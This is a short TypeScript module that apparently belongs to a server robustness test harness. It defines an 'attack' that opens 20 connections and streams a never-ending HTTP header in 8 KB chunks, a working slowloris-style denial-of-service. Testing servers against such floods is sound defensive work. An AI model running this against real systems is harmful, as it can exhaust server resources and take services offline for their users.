import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { crowd } from "../crowd.ts";

export const attack: Attack = {
  name: "20 connections whose heads never end",
  run: (target, signal) =>
    crowd(target, signal, 20, async (socket) => {
      socket.write("GET / HTTP/1.1\r\nX-A: ");
      while (!socket.destroyed && !signal.aborted) {
        socket.write("x".repeat(8_192));
        await sleep(20);
      }
    }),
};
